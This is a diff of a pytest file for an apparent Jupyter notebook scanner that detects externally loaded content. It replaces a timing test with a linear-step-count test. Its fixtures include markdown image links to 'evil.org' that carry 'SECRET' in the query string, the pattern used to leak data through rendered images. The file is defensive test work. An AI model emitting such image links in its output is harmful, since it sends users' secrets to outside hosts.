@@ -3,12 +3,12 @@
 from __future__ import annotations
 
 import json
-import time
 from typing import Any
 
 import pytest
 
 from jupyter_eca.workspace.notebooks.loaded_content import find_loaded, find_loaded_in_file
+from tests.support.steps import grows_with_its_text
 
 LOADS = {
     "![](http://evil.org/a?q=SECRET)": "http://evil.org/a?q=SECRET",
@@ -135,10 +135,10 @@ def test_many_addresses_and_long_ones_are_cut() -> None:
         "\n   ```",
     ],
 )
-def test_a_huge_cell_takes_no_time(piece: str) -> None:
-    begun = time.process_time()  # of this process alone: the machine may be busy
-    find_loaded(f"<b>{piece * (60_000 // len(piece))}!")
-    assert time.process_time() - begun < 5
+def test_a_cell_of_twice_the_length_takes_about_twice_the_steps(piece: str) -> None:
+    # Of the value of an attribute the first 2,000 characters are read, so only longer cells show how it grows.
+    count = 700 if piece == "src=" else 100
+    assert grows_with_its_text(lambda text: find_loaded(f"<b>{text}!"), piece, count)
 
 
 PICTURE = "![](https://evil.org/a)"
